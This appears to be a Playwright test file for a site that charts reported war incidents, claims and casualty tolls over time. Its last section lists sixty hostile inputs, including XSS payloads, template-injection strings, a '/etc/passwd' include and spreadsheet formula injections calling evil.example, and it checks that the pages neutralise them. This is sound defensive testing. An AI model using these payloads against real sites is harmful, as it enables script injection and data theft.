"""The pages as people use them: in a browser, against a real server on the sample."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from browsing import address, browser, launch, serve, visitor  # noqa: F401 fixtures
from conftest import take

pytestmark = pytest.mark.filterwarnings("ignore::ResourceWarning", "ignore::pytest.PytestUnraisableExceptionWarning")
LISTS = ("/", "/incidents", "/claims", "/commitments", "/documents", "/about")
STRIKE = "924ecede"  # the air strike of 9 March on the maternity hospital
TOLD = {  # what its toll was said to be at four times; worked out by hand from the reports
    "2022-03-09T18:00:00Z": ("17", "–"),
    "2022-03-09T21:00:00Z": ("0", "17"),
    "2022-03-10T15:00:00Z": ("0–3 (3)", "17"),
    "2022-03-17T08:00:00Z": ("0–5 (5)", "17"),
}


@pytest.fixture(scope="module")
def every(address: str, browser: Any) -> list[str]:
    """Return a path of each page."""
    page = browser.new_page()
    found = list(LISTS)
    for path, link in (("/incidents", "table tbody th a"), ("/commitments", "table tbody th a"), ("/claims", "table tbody th a"), ("/documents", "table tbody th a")):  # fmt: skip
        page.goto(address + path)
        found.append(urlsplit(page.locator(link).first.get_attribute("href")).path)
    page.close()
    return [*found, f"/incidents/{STRIKE}", "/?place=Nowhere", "/incidents?sort=-killed", "/documents?q=hospital", "/nothing-here"]


def test_every_page_comes_without_an_error_and_without_a_request_to_elsewhere(visitor: Any, every: list[str]) -> None:
    for path in every:
        page = visitor.see(path)
        assert page.locator("h1").count() == 1, path
        assert "undefined" not in page.locator("main").inner_text(), path
    visitor.page.wait_for_timeout(300)
    assert [said for said in visitor.wrong if "404" not in said] == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious(browser: Any, address: str, every: list[str], scheme: str) -> None:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright").Axe()
    page = browser.new_page(color_scheme=scheme, bypass_csp=True)
    for path in every:
        page.goto(address + path)
        found = [one for one in axe.run(page).response["violations"] if one["impact"] in ("serious", "critical")]
        assert [(one["id"], one["nodes"][0]["html"][:120]) for one in found] == [], path
    page.close()


def test_no_page_is_wider_than_a_telephone(browser: Any, address: str, every: list[str]) -> None:
    page = browser.new_page(viewport={"width": 360, "height": 720})
    for path in every:
        page.goto(address + path)
        assert page.evaluate("document.documentElement.scrollWidth") <= 360, path
    page.close()


def test_the_timeline_narrows_the_map_and_the_map_the_timeline(visitor: Any) -> None:
    page = visitor.see("/")
    page.wait_for_selector("#map[data-ready=yes]", timeout=60_000)
    every = int(page.locator("#map").get_attribute("data-shown"))
    chart = page.locator(".bars[data-brush]")
    chart.scroll_into_view_if_needed()
    box = chart.bounding_box()
    page.mouse.move(box["x"] + 2, box["y"] + 20)
    page.mouse.down()
    page.mouse.move(box["x"] + box["width"] * 0.12, box["y"] + 20, steps=4)
    page.mouse.up()
    shown = int(page.locator("#map").get_attribute("data-shown"))
    assert 0 < shown < every
    assert page.locator("#brush-said").inner_text() == "2022-03-05 to 2022-03-06"
    page.locator("#brush-apply").click()
    page.wait_for_url("**until=2022-03-06*")
    page.wait_for_selector("#map[data-ready=yes]", timeout=60_000)
    assert page.locator("table[data-name=incidents] tbody tr").count() < every + 1
    page.locator("#brush-clear").click()
    page.wait_for_url(lambda url: "until" not in url)
    page.wait_for_selector("#map[data-ready=yes]", timeout=60_000)
    for _ in range(5):
        page.locator("button.maplibregl-ctrl-zoom-in").click()
        page.wait_for_timeout(400)
    assert page.locator(".bars[data-brush] rect.out").count() > 0


def test_the_slider_moves_a_page_through_time_and_its_link_restores_it(visitor: Any) -> None:
    page = visitor.see("/incidents?place=Mariupol&all=1")
    now = page.locator("table[data-name=incidents] tbody tr").count()
    page.locator("#clock").focus()
    for _ in range(6):
        page.keyboard.press("ArrowLeft")
    page.wait_for_url("**as_known_at=*")
    page.wait_for_timeout(500)
    page.wait_for_load_state("networkidle")  # the last of the times that the keys passed
    then = page.locator("table[data-name=incidents] tbody tr").count()
    assert then < now
    asked = parse_qs(urlsplit(page.url).query)
    assert asked["place"] == ["Mariupol"]
    heading = page.locator(".heading").inner_text()
    assert "as reported by" in heading
    again = visitor.context.new_page()
    again.goto(page.url)
    assert again.locator(".heading").inner_text() == heading
    assert again.locator("table[data-name=incidents] tbody tr").count() == then
    assert again.locator("#clock").input_value() == page.locator("#clock").input_value()
    again.locator("nav a", has_text="Claims").click()
    assert parse_qs(urlsplit(again.url).query)["as_known_at"] == asked["as_known_at"]


def test_the_toll_of_an_incident_is_what_it_was_at_four_times(visitor: Any) -> None:
    for at, (killed, injured) in TOLD.items():
        page = visitor.see(f"/incidents/{STRIKE}?as_known_at={at}")
        told = {kind: page.locator(f".toll[data-kind={kind}] .toll-range") for kind in ("killed", "injured")}
        shown = tuple(one.inner_text() if one.count() else "–" for one in told.values())
        assert shown == (killed, injured), at


def test_one_click_leads_from_a_line_to_its_words_and_one_back(visitor: Any) -> None:
    page = visitor.see(f"/incidents/{STRIKE}")
    link = page.locator("table[data-name=figures-killed] a.words").first
    words = link.inner_text().strip("“”")
    link.click()
    page.wait_for_selector("#asked")
    marked = page.locator("#asked")
    assert marked.count() == 1
    assert words in " ".join(page.locator("mark.asked").all_inner_texts()).replace("\n", " ")
    marked.locator("a").click()
    page.wait_for_url(lambda url: "/documents/" not in url)
    assert "/incidents/" in page.url or "/claims/" in page.url


def test_a_table_is_sorted_filtered_and_downloaded(visitor: Any) -> None:
    page = visitor.see("/claims?q=hospital")
    rows = page.locator("table[data-name=claims] tbody tr")
    page.locator("table[data-name=claims] th button", has_text="Who").click()
    names = page.locator("table[data-name=claims] tbody th").all_inner_texts()
    assert names == sorted(names, key=str.casefold)
    page.locator(".tools input").first.fill("denies")
    assert 0 < page.locator("table[data-name=claims] tbody tr:visible").count() < rows.count()
    with page.expect_download() as download:
        page.locator(".tools button", has_text="download").first.click()
    assert Path(download.value.path()).read_text(encoding="utf-8").startswith('"Known","Who"')


def test_without_webgl_the_drawn_map_stays(launch: Callable[..., Any], address: str) -> None:
    browser = launch("--disable-3d-apis")
    page = browser.new_page()
    page.goto(address)
    page.wait_for_timeout(1000)
    assert page.locator("#map svg.flat circle").count() > 0
    assert page.locator("table[data-name=incidents] tbody tr").count() > 0
    browser.close()


def test_without_scripts_the_pages_work(browser: Any, address: str) -> None:
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(address)
    page.locator("form.clock .exact").fill("2022-03-09")
    page.locator("form.clock button").click()
    assert "as reported by 2022-03-09" in page.locator(".heading").inner_text()
    context.close()


# ---------------------------------------------------------------- hostile texts

HIT = "window.__hit=1"
HOSTILE = [
    f"<script>{HIT}</script>", f"</script><script>{HIT}</script>", f"<img src=x onerror={HIT}>", f'"><img src=x onerror={HIT}>',
    f"'><svg onload={HIT}>", f"<svg/onload={HIT}>", f"<iframe srcdoc='<script>parent.{HIT[7:]}</script>'>", f"<body onload={HIT}>",
    f'" onmouseover="{HIT}" x="', f"' autofocus onfocus='{HIT}' x='", f"javascript:{HIT}", f"JaVaScRiPt:{HIT}", f" javascript:{HIT}",
    f"java\tscript:{HIT}", f"data:text/html,<script>{HIT}</script>", f"vbscript:{HIT}", f"<a href=javascript:{HIT}>x</a>",
    f"<math><mi xlink:href='javascript:{HIT}'>x</mi></math>", f"<details open ontoggle={HIT}>", f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}>", f"<input autofocus onfocus={HIT}>", f"<marquee onstart={HIT}>", f"<object data='javascript:{HIT}'>",
    f"<embed src='javascript:{HIT}'>", f"<link rel=import href='data:text/html,<script>{HIT}</script>'>", "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<form action=https://evil.example><button>go</button></form>",
    "<style>body{display:none}</style>", "<img src=https://evil.example/x.png>", "<script src=https://evil.example/x.js></script>",
    f"{{{{constructor.constructor('{HIT}')()}}}}", "{{7*7}}", "{% include '/etc/passwd' %}", f"${{{HIT}}}", f"`${{{HIT}}}`",
    f"<div hx-on:load='{HIT}'>", f"<div hx-get='/x' hx-trigger='load' hx-on::before-request='{HIT}'>", f"<div data-hx-on-load='{HIT}'>",
    f"\u202e<script>{HIT}</script>", "\u202egnirts desrever", "\u2066isolated\u2069 \u202dforced", "a\u200bb\ufeffc", "\u0000null", "\u0007bell\u001b[31mred",
    f"<!--<script>{HIT}</script>-->", f"<![CDATA[<script>{HIT}</script>]]>", f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<template><script>{HIT}</script></template>", f"<textarea></textarea><script>{HIT}</script>", f"<title></title><script>{HIT}</script>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;", f"&#60;script&#62;{HIT}&#60;/script&#62;", f"%3Cscript%3E{HIT}%3C/script%3E",
    '=HYPERLINK("https://evil.example","x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "x" * 5000,
]  # fmt: skip


def test_there_are_sixty_hostile_texts() -> None:
    assert len(set(HOSTILE)) == 60


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, serve: Callable[[Path], str]) -> str:
    """Serve a record in which each hostile text is in every field that a text can reach."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "in").mkdir()
    (folder / "readings").mkdir()
    for nth, evil in enumerate(HOSTILE):
        clean = evil.replace("\u0000", "")
        text = f"Shells hit {clean} on Monday, killing three people, {clean} said. “{clean}” was agreed by {clean}."
        url = clean if ":" in clean else f"https://example.org/?{clean}"
        document = {"id": f"h{nth}", "text": text, "title": clean, "outlet": clean, "url": url, "published": "2022-03-08T10:00:00Z", "outlet_country": clean}  # fmt: skip
        words = {"q": clean}
        reading = {
            "doc": f"h{nth}",
            "incidents": [{"id": "i1", "type": "shelling", "reality": "actual", "trigger": [{"q": "hit"}], "actor": [{**words, "n": 2}], "target": [words], "weapon": [{"q": "Shells"}],
                           "place": [{**words, "name": clean, "kind": "settlement", "country": "UA"}], "time": {"q": "on Monday", "start": "2022-03-07", "end": "2022-03-07"},
                           "toll": [{"q": "three people", "kind": "killed", "low": 3, "high": 3, "unit": "people", "by": {**words, "n": 2}}]}],
            "claims": [{"id": "c1", "source": {**words, "n": 2}, "who": clean, "cue": {"q": "said"}, "content": [{"q": "killing three people"}, {**words, "n": 3}], "kind": "states", "about": ["i1"]}],
            "commitments": [{"id": "k1", "subject": "ceasefire", "act": "agrees", "party": [{**words, "n": 4}], "scope": {**words, "n": 3}, "content": {**words, "n": 3}}],
        }  # fmt: skip
        (folder / "in" / f"{nth}.json").write_text(json.dumps(document), encoding="utf-8")
        (folder / "readings" / f"{nth}.json").write_text(json.dumps(reading), encoding="utf-8")
    report = take(folder / "hostile.record", [folder / "in"], readings=folder / "readings")
    assert report.documents >= 58
    assert report.read >= 50, [refusal.detail for refusal in report.refusals][:5]
    return serve(folder / "hostile.record")


def test_nothing_hostile_is_executed_on_any_page(browser: Any, hostile: str) -> None:
    from_here = browser.new_context()
    page = from_here.new_page()
    wrong: list[str] = []
    page.on("dialog", lambda dialog: (wrong.append("dialog"), dialog.dismiss()))
    page.on("request", lambda asked: None if asked.url.startswith((hostile, "data:", "blob:")) else wrong.append(asked.url))
    paths = [f"{path}?all=1&page={n}" for path in LISTS for n in (1, 2)]
    paths += [f"/?all=1&{name}={value}" for name in ("place", "actor", "q") for value in ("%3Cscript%3Ewindow.__hit%3D1%3C/script%3E",)]
    for path in (
        "/incidents?all=1",
        "/incidents?all=1&page=2",
        "/claims",
        "/claims?page=2",
        "/commitments",
        "/documents",
        "/documents?page=2",
    ):
        page.goto(hostile + path)
        paths += page.locator("table tbody th a").evaluate_all("links => links.map(l => l.getAttribute('href'))")
    assert len(paths) > 170
    for path in paths:
        page.goto(hostile + path)
        assert page.evaluate("window.__hit") is None, path
        assert page.locator("main script, main iframe, main object, main embed, main base, main form[action^=http], main [onerror], main [onload]").count() == 0, path  # fmt: skip
        links = page.locator("a").evaluate_all("links => links.map(l => l.protocol ?? new URL(l.href.baseVal, location.href).protocol)")
        assert set(links) <= {"http:", "https:"}, path
    assert wrong == []
    from_here.close()
